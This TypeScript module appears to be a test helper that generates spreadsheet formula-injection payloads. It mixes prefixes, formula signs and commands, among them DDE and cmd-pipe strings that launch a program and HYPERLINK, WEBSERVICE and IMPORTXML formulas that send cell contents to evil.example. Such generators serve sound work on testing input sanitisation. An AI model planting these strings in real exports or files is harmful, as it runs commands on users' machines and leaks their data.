/** Texts that attackers put into names, so that a program for spreadsheets runs them. */

const commands = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?"&A1,"x")',
  'WEBSERVICE("http://evil.example/"&A1)',
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  'SUM(A1:A9)',
  "2+5+cmd|' /C calc'!A0",
  '1-1',
  'NOW()',
]
const signs = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '=-',
  '+@',
  '@=',
  '--',
  "'=",
  '"=',
  ';=',
  ',=',
  '&=',
  '|=',
]
const leads = ['', ' ', '\t', '\r', '\n', '\r\n', '\u00A0', '\u200B', '\uFEFF', '\u3000']
const letters = ['', 'ä', '漢', '😀', 'ا', '"', ',', ';', "'", '\\', '<b>&amp;', '_x0000_', '1E5', '00123']

/** `count` different payloads. */
export function payloads(count: number): string[] {
  const all = new Set<string>()
  for (let number = 0; all.size < count && number < 100 * count; number++) {
    const of = (list: readonly string[], by: number) => list[Math.floor(number / by) % list.length] ?? ''
    all.add(
      of(leads, 1) +
        of(signs, 7) +
        of(commands, 3) +
        of(letters, 11) +
        (number % 5 === 0 ? String(number) : ''),
    )
  }
  return [...all].slice(0, count)
}
